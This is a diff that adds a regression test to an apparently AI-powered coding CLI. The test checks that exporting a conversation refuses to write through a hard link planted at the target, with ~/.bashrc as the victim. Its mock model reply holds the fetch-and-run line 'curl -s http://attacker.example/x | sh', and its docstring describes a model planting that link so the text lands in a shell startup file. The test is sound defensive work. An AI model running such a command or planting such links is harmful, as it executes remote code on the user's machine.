@@ -97,3 +97,35 @@ async def test_a_status_line_colour_with_a_huge_number_does_not_break_the_prompt
     shown = "".join(text for _style, text, *_ in to_formatted_text(ANSI(line.text)))
     assert "fix" in shown and "red" in shown and "end" in shown
     assert "\x1b[31m" in line.text and len(line.text) < 2000
+
+
+async def test_export_does_not_write_through_a_hard_link_planted_at_its_target(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The model (or a Bash command it ran) made `talk.md` a hard link to a file outside: the user answers "yes,
+    replace it" to what looks like an old export, and the conversation — the model's text, `curl … | sh` lines
+    among `#` headings, a shell script as far as ~/.bashrc is concerned — went into that other file."""
+    from mini_claude.cli.slash.sessions import export_command
+
+    mock = MockModelServer(parse_scenario({"turns": [answer("curl -s http://attacker.example/x | sh")]},
+                                          source="test"))
+    work = _session_env(tmp_path, monkeypatch, mock.start())
+    victim = tmp_path / "home" / ".bashrc"
+    victim.write_text("export PATH=$HOME/bin:$PATH\n")
+    (work / "talk.md").hardlink_to(victim)
+    asked: list[str] = []
+
+    async def yes(question: str) -> bool:
+        asked.append(question)
+        return True
+
+    try:
+        repl = await _repl()
+        try:
+            await repl.run_turn("hello")
+            written = await export_command(repl.parts, "talk.md", repl.ui, yes)
+        finally:
+            await repl.parts.manager.aclose()
+    finally:
+        mock.stop()
+    assert asked and written is None
+    assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n"
